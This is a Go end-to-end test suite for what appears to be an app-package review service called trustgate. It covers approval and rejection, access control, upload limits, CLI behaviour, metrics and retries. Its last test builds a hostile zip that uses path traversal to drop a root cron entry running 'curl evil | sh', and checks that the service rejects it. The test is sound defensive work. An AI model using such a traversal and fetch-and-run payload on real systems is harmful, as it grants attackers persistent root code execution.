package e2e

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"trustgate/internal/blobstore"
	"trustgate/internal/store"
)

func TestSubmissionsEndToEnd(t *testing.T) {
	t.Parallel()
	s := startStack(t, 8<<20)
	lin, zhao := s.demo.Tokens["lin-verified"], s.demo.Tokens["zhao-unverified"]

	t.Run("a verified high-credit developer's valid package is approved and goes live", func(t *testing.T) {
		t.Parallel()
		var app store.App
		resp := s.call(t, "POST", "/v1/apps", lin, strings.NewReader(
			`{"name":"Lin Weather","category":"tools","platform":"wechat","domains":["api.lin-weather.example"]}`),
			http.Header{"Content-Type": {"application/json"}}, &app)
		require.Equal(t, http.StatusCreated, resp.StatusCode)

		resp, created := s.upload(t, lin, app.ID, "1.2.0", examplePackage(t, "hello-wechat"), "")
		require.Equal(t, http.StatusAccepted, resp.StatusCode)
		require.Equal(t, "/v1/submissions/"+created["id"].(string), resp.Header.Get("Location"))
		require.Equal(t, "received", created["state"])

		sub := s.settle(t, lin, created["id"].(string))
		require.Equal(t, "approved", string(sub.State))
		require.Equal(t, "approve", sub.Decision.Outcome)
		require.NotNil(t, sub.PolicyVersion)
		require.Equal(t, []string{"received", "scanning", "evaluating", "approved"}, timelineStates(sub))

		var apps struct{ Items []store.App }
		s.call(t, "GET", "/v1/apps", lin, nil, nil, &apps)
		live := map[string]string{}
		for _, a := range apps.Items {
			if a.LiveVersion != nil {
				live[a.ID] = *a.LiveVersion
			}
		}
		require.Equal(t, "1.2.0", live[app.ID], "the approved version is the app's live version")
		recordHistory(t, sub.ID, "auto-approve")
	})

	t.Run("an unverified developer is rejected with the real-name reason", func(t *testing.T) {
		t.Parallel()
		resp, created := s.upload(t, zhao, s.appOf("zhao-unverified"), "1.0.0", examplePackage(t, "hello-wechat"), "")
		require.Equal(t, http.StatusAccepted, resp.StatusCode)
		sub := s.settle(t, zhao, created["id"].(string))
		require.Equal(t, "rejected", string(sub.State))
		require.Contains(t, codes(sub), "REALNAME_REQUIRED")

		var zh submissionAnswer
		s.call(t, "GET", "/v1/submissions/"+sub.ID, zhao, nil, http.Header{"Accept-Language": {"zh-CN,zh;q=0.9"}}, &zh)
		require.Contains(t, zh.Decision.Reasons[0].Message, "实名", "reasons in the developer's language")
		// Answers are rendered once per change and language: each reader
		// still gets their own language.
		for range 2 {
			var en, again submissionAnswer
			s.call(t, "GET", "/v1/submissions/"+sub.ID, zhao, nil, http.Header{"Accept-Language": {"en-GB"}}, &en)
			require.NotContains(t, en.Decision.Reasons[0].Message, "实名")
			require.Equal(t, sub.Decision.Reasons[0].Message, en.Decision.Reasons[0].Message)
			s.call(t, "GET", "/v1/submissions/"+sub.ID, zhao, nil, http.Header{"Accept-Language": {"zh-Hans"}}, &again)
			require.Equal(t, zh.Decision.Reasons, again.Decision.Reasons)
		}

		resp = s.call(t, "GET", "/v1/submissions/"+sub.ID+"/evaluation", zhao, nil, nil, nil)
		require.Equal(t, http.StatusForbidden, resp.StatusCode, "developers never see the raw decision input")
		var evals struct {
			Items []struct {
				PolicyHash string
				Input      struct {
					Developer struct {
						CreditScore int `json:"credit_score"`
					}
				}
			}
		}
		s.call(t, "GET", "/v1/submissions/"+sub.ID+"/evaluation", s.demo.Tokens["compliance"], nil, nil, &evals)
		require.Len(t, evals.Items, 1)
		require.Equal(t, 720, evals.Items[0].Input.Developer.CreditScore)
		require.Equal(t, *sub.PolicyVersion != "", true)

		out, stderr, code := runCLI(t, "policy", "replay", "--server", s.url, "--token", s.demo.Tokens["compliance"], sub.ID)
		require.Equal(t, 0, code, stderr)
		var replay struct {
			Same       bool
			RulesFired []string `json:"rules_fired"`
		}
		require.NoError(t, json.Unmarshal([]byte(out), &replay))
		require.True(t, replay.Same, "the stored input replays to the same decision")
		require.NotEmpty(t, replay.RulesFired)
	})

	t.Run("a package with a page missing is rejected with a manifest reason naming the file", func(t *testing.T) {
		t.Parallel()
		resp, created := s.upload(t, lin, s.appOf("lin-verified"), "2.0.0", examplePackage(t, "missing-page"), "")
		require.Equal(t, http.StatusAccepted, resp.StatusCode)
		sub := s.settle(t, lin, created["id"].(string))
		require.Equal(t, "rejected", string(sub.State))
		var manifest []string
		for _, r := range sub.Decision.Reasons {
			if strings.HasPrefix(r.Code, "MAN-") {
				manifest = append(manifest, fmt.Sprint(r.Evidence["file"]))
			}
		}
		require.NotEmpty(t, manifest, "reasons: %v", codes(sub))
		require.Contains(t, strings.Join(manifest, " "), "pages/missing/missing")
		var files []string
		for _, f := range sub.Findings {
			files = append(files, f.File)
		}
		require.Contains(t, strings.Join(files, " "), "pages/missing/missing")

	})

	t.Run("a blacklisted developer is rejected", func(t *testing.T) {
		t.Parallel()
		tok := s.demo.Tokens["shadow-blacklisted"]
		_, created := s.upload(t, tok, s.appOf("shadow-blacklisted"), "1.0.0", examplePackage(t, "hello-wechat"), "")
		sub := s.settle(t, tok, created["id"].(string))
		require.Equal(t, "rejected", string(sub.State))
		require.Contains(t, codes(sub), "DEVELOPER_BLACKLISTED")
	})
}

func TestIdempotentUpload(t *testing.T) {
	t.Parallel()
	s := startStack(t, 8<<20)
	lin, app := s.demo.Tokens["lin-verified"], s.appOf("lin-verified")
	pkg := examplePackage(t, "hello-wechat")

	r1, first := s.upload(t, lin, app, "3.0.0", pkg, "retry-1")
	r2, second := s.upload(t, lin, app, "3.0.0", pkg, "retry-1")
	require.Equal(t, http.StatusAccepted, r1.StatusCode)
	require.Equal(t, http.StatusAccepted, r2.StatusCode)
	require.Equal(t, first["id"], second["id"], "a retry returns the same submission")
	require.Equal(t, r1.Header.Get("Location"), r2.Header.Get("Location"))

	r3, problem := s.upload(t, lin, app, "3.0.0", examplePackage(t, "hello-alipay"), "retry-1")
	require.Equal(t, http.StatusUnprocessableEntity, r3.StatusCode)
	require.Equal(t, "application/problem+json", r3.Header.Get("Content-Type"))
	require.Equal(t, "/problems/idempotency-key-reused", problem["type"])

	var list struct{ Items []map[string]any }
	s.call(t, "GET", "/v1/submissions?app_id="+app, lin, nil, nil, &list)
	require.Len(t, list.Items, 1, "one submission for all three requests")
}

func TestAccessIsCheckedPerObject(t *testing.T) {
	t.Parallel()
	s := startStack(t, 8<<20)
	lin, zhao := s.demo.Tokens["lin-verified"], s.demo.Tokens["zhao-unverified"]
	_, created := s.upload(t, lin, s.appOf("lin-verified"), "1.0.0", examplePackage(t, "hello-wechat"), "")
	id := created["id"].(string)

	cases := []struct {
		name, method, path, token string
		want                      int
	}{
		{"another developer's submission is not found", "GET", "/v1/submissions/" + id, zhao, http.StatusNotFound},
		{"the owner reads their submission", "GET", "/v1/submissions/" + id, lin, http.StatusOK},
		{"a reviewer reads any submission", "GET", "/v1/submissions/" + id, s.demo.Tokens["reviewer"], http.StatusOK},
		{"the identity provider does not read submissions", "GET", "/v1/submissions/" + id, s.demo.Tokens["identity"], http.StatusForbidden},
		{"no token is unauthorized", "GET", "/v1/submissions/" + id, "", http.StatusUnauthorized},
		{"an unknown token is unauthorized", "GET", "/v1/me", "tg_not-a-token", http.StatusUnauthorized},
		{"a reviewer cannot upload", "POST", "/v1/submissions", s.demo.Tokens["reviewer"], http.StatusForbidden},
		{"a developer cannot decide", "POST", "/v1/review-tasks/task_x/decision", lin, http.StatusForbidden},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			resp := s.call(t, c.method, c.path, c.token, nil, nil, nil)
			require.Equal(t, c.want, resp.StatusCode)
			if c.want >= 400 {
				require.Equal(t, "application/problem+json", resp.Header.Get("Content-Type"))
			}
		})
	}

	var list struct{ Items []map[string]any }
	s.call(t, "GET", "/v1/submissions", zhao, nil, nil, &list)
	require.Empty(t, list.Items, "a developer lists only their own submissions")

	var me meAnswer
	s.call(t, "GET", "/v1/me", zhao, nil, nil, &me)
	require.Equal(t, "developer", me.Role)
	require.Equal(t, "none", me.Developer.RealNameStatus)
	require.Equal(t, "individual", me.Developer.Kind)
}

type meAnswer struct {
	Role      string
	Subject   string
	Developer store.Developer
}

func TestOversizedUploadIsRefusedBeforeReading(t *testing.T) {
	t.Parallel()
	s := startStack(t, 1<<20)
	lin := s.demo.Tokens["lin-verified"]
	// Content-Length says 100 MB; the body never comes. The answer must not
	// wait for it.
	req, err := http.NewRequest("POST", s.url+"/v1/submissions", io.LimitReader(neverEnding{}, 100<<20))
	require.NoError(t, err)
	req.ContentLength = 100 << 20
	req.Header.Set("Authorization", "Bearer "+lin)
	req.Header.Set("Content-Type", "multipart/form-data; boundary=x")
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	resp.Body.Close()
	require.Equal(t, http.StatusRequestEntityTooLarge, resp.StatusCode)

	big := bytes.Repeat([]byte("x"), 2<<20)
	r, problem := s.upload(t, lin, s.appOf("lin-verified"), "9.0.0", big, "")
	require.Equal(t, http.StatusRequestEntityTooLarge, r.StatusCode)
	require.Equal(t, "/problems/too-large", problem["type"])
}

type neverEnding struct{}

func (neverEnding) Read(p []byte) (int, error) { return len(p), nil }

func TestSubmitCommandWaitsForTheOutcome(t *testing.T) {
	t.Parallel()
	s := startStack(t, 8<<20)
	zipPath := filepath.Join(t.TempDir(), "hello.zip")
	require.NoError(t, writeFile(zipPath, examplePackage(t, "hello-wechat")))
	out, stderr, code := runCLI(t, "submit", "--server", s.url, "--token", s.demo.Tokens["lin-verified"],
		"--app", s.appOf("lin-verified"), "--version", "4.0.0", "--wait", zipPath)
	require.Equal(t, 0, code, "%s%s", out, stderr)
	require.Contains(t, out, "state: approved")

	out, _, code = runCLI(t, "submit", "--server", s.url, "--token", s.demo.Tokens["zhao-unverified"],
		"--app", s.appOf("zhao-unverified"), "--version", "4.0.0", "--wait", zipPath)
	require.Equal(t, 3, code, "a rejection exits 3 so CI pipelines can branch")
	require.Contains(t, out, "REALNAME_REQUIRED")

	id := strings.Fields(strings.SplitN(out, "\n", 2)[0])[1]
	out, stderr, code = runCLI(t, "status", "--server", s.url, "--token", s.demo.Tokens["zhao-unverified"], id)
	require.Equal(t, 0, code, stderr)
	require.Contains(t, out, "state: rejected")
}

func writeFile(path string, b []byte) error { return os.WriteFile(path, b, 0o644) }

func TestMetricsAndHealth(t *testing.T) {
	t.Parallel()
	s := startStack(t, 8<<20)
	lin := s.demo.Tokens["lin-verified"]
	_, created := s.upload(t, lin, s.appOf("lin-verified"), "1.0.0", examplePackage(t, "hello-wechat"), "")
	s.settle(t, lin, created["id"].(string))

	for path, want := range map[string]int{"/healthz": 200, "/readyz": 200, "/openapi.yaml": 200} {
		resp := s.call(t, "GET", path, "", nil, nil, nil)
		require.Equal(t, want, resp.StatusCode, path)
	}
	require.Equal(t, http.StatusUnauthorized, s.call(t, "GET", "/metrics", "", nil, nil, nil).StatusCode,
		"the API port's metrics are not public")
	require.Equal(t, http.StatusForbidden, s.call(t, "GET", "/metrics", lin, nil, nil, nil).StatusCode)
	req, err := http.NewRequest("GET", s.url+"/metrics", nil)
	require.NoError(t, err)
	req.Header.Set("Authorization", "Bearer "+s.demo.Tokens["admin"])
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	require.NoError(t, err)
	for _, series := range []string{
		`trustgate_submissions{state="approved"} 1`,
		`trustgate_http_request_duration_seconds_bucket{method="POST",route="/v1/submissions",status="202"`,
		`trustgate_policy_evaluation_seconds_count`,
		`trustgate_scan_duration_seconds_count`,
	} {
		require.Contains(t, string(body), series)
	}
}

func TestFindingsComparedWithTheLiveVersion(t *testing.T) {
	t.Parallel()
	s := startStack(t, 8<<20)
	lin := s.demo.Tokens["lin-verified"]
	app := s.appOf("lin-verified")
	_, v1 := s.upload(t, lin, app, "1.0.0", examplePackage(t, "hello-wechat"), "")
	require.Equal(t, "approved", string(s.settle(t, lin, v1["id"].(string)).State))
	_, v2 := s.upload(t, lin, app, "1.1.0", examplePackage(t, "missing-page"), "")
	s.settle(t, lin, v2["id"].(string))

	var cmp struct {
		Items []struct {
			RuleID string `json:"rule_id"`
			Status string
		}
		ComparedTo string `json:"compared_to"`
	}
	resp := s.call(t, "GET", "/v1/submissions/"+v2["id"].(string)+"/findings?compare=live&severity=critical", s.demo.Tokens["reviewer"], nil, nil, &cmp)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	require.Equal(t, v1["id"], cmp.ComparedTo)
	require.NotEmpty(t, cmp.Items)
	for _, f := range cmp.Items {
		require.Equal(t, "MAN-003", f.RuleID)
		require.Equal(t, "new", f.Status, "the live version had no missing page")
	}
	resp = s.call(t, "GET", "/v1/submissions/"+v2["id"].(string)+"/findings?compare=yesterday", lin, nil, nil, nil)
	require.Equal(t, http.StatusUnprocessableEntity, resp.StatusCode)
}

func TestSamePackageInFlightAndQuota(t *testing.T) {
	t.Parallel()
	s := startStack(t, 8<<20)
	tok, app := s.demo.Tokens["wang-flagged"], s.appOf("wang-flagged")
	first, _ := s.inReview(t, "1.0.0")
	resp, problem := s.upload(t, tok, app, "1.0.0-again", variant(t, "hello-wechat", "1.0.0"), "")
	require.Equal(t, http.StatusConflict, resp.StatusCode)
	require.Equal(t, "/problems/in-flight", problem["type"])
	require.Contains(t, problem["detail"], first, "the answer names the first submission")
	require.Equal(t, "/v1/submissions/"+first, resp.Header.Get("Location"))
}

func TestOperatorRetriesAFailedSubmission(t *testing.T) {
	t.Parallel()
	s := startStack(t, 8<<20)
	lin, admin := s.demo.Tokens["lin-verified"], s.demo.Tokens["admin"]
	pkg := examplePackage(t, "hello-wechat")

	// An injected fault of ours: the stored package vanishes before the
	// scan, which no retry of the activity can fix.
	s.worker.Stop()
	resp, created := s.upload(t, lin, s.appOf("lin-verified"), "1.0.0", pkg, "")
	require.Equal(t, http.StatusAccepted, resp.StatusCode)
	id := created["id"].(string)
	sum := sha256.Sum256(pkg)
	sha := hex.EncodeToString(sum[:])
	require.NoError(t, s.svc.Blobs.Delete(t.Context(), blobstore.PackageKey(sha)))
	w := s.svc.NewWorker()
	require.NoError(t, w.Start())
	t.Cleanup(w.Stop)

	sub := s.settle(t, lin, id)
	require.Equal(t, "failed", string(sub.State), "our fault is failed, never rejected")

	var failed struct{ Items []map[string]any }
	s.call(t, "GET", "/v1/submissions?state=failed", admin, nil, nil, &failed)
	require.Len(t, failed.Items, 1, "operators see what failed")

	// The operator fixes the cause and retries.
	require.NoError(t, blobstore.PutPackage(t.Context(), s.svc.Blobs, sha, bytes.NewReader(pkg)))
	code, out := s.act(t, admin, "/v1/submissions/"+id+"/retry", "")
	require.Equal(t, http.StatusOK, code, "%v", out)
	require.Eventually(t, func() bool {
		s.call(t, "GET", "/v1/submissions/"+id, lin, nil, nil, &sub)
		return sub.State == "approved"
	}, 30*time.Second, 100*time.Millisecond, "timeline %v, failure %v", timelineStates(sub), sub.Failure)
	states := timelineStates(sub)
	require.Equal(t, []string{"received", "scanning", "failed", "scanning", "evaluating", "approved"}, states,
		"the retry continues the timeline")
	code, _ = s.act(t, admin, "/v1/submissions/"+id+"/retry", "")
	require.Equal(t, http.StatusConflict, code, "an approved submission is not retried")
	code, _ = s.act(t, lin, "/v1/submissions/"+id+"/retry", "")
	require.Equal(t, http.StatusForbidden, code)
}

func TestHostileArchiveIsRejectedNotFailed(t *testing.T) {
	t.Parallel()
	s := startStack(t, 8<<20)
	lin := s.demo.Tokens["lin-verified"]
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for name, body := range map[string]string{
		"app.json":             `{"pages":["pages/index/index"]}`,
		"pages/index/index.js": "Page({});",
		"../../etc/cron.d/x":   "* * * * * root sh -c 'curl evil | sh'",
	} {
		w, err := zw.Create(name)
		require.NoError(t, err)
		_, err = w.Write([]byte(body))
		require.NoError(t, err)
	}
	require.NoError(t, zw.Close())
	resp, created := s.upload(t, lin, s.appOf("lin-verified"), "6.6.6", buf.Bytes(), "")
	require.Equal(t, http.StatusAccepted, resp.StatusCode)
	sub := s.settle(t, lin, created["id"].(string))
	require.Equal(t, "rejected", string(sub.State), "a hostile package is the developer's problem, not our fault")
	var pkg []string
	for _, c := range codes(sub) {
		if strings.HasPrefix(c, "PKG-") {
			pkg = append(pkg, c)
		}
	}
	require.NotEmpty(t, pkg, "the reason names the archive rule: %v", codes(sub))
}
